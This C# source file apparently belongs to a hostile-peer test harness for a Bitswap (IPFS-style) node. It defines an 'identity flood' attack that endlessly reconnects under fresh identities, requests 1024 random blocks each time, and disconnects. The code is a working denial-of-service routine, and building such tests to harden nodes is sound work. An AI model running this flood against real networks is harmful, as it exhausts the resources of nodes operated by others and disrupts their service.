using Bitswap.Node.Networks;

namespace Bitswap.Hostile.Attacks;

/// <summary>Comes as somebody new, asks, and leaves.</summary>
internal sealed class IdentityFlood : Attack
{
    public override string Name => "identity flood";

    public override string Summary => "connects with a fresh identity, asks for 1024 random blocks, leaves, and does it again";

    public override async Task RunAsync(Multiaddr target, int attacker, CancellationToken cancellationToken)
    {
        RandomFrame frame = new(1024, cids => new BitswapMessage { Wantlist = [.. cids.Select(cid => new WantlistEntry(cid, SendDontHave: true))] });
        while (true)
        {
            await using AttackPeer peer = await AttackPeer.ConnectAsync(target, reads: true, cancellationToken);
            await using IByteStream stream = await peer.OpenAsync(cancellationToken);
            await stream.WriteAsync(frame.Next(), cancellationToken);
        }
    }
}
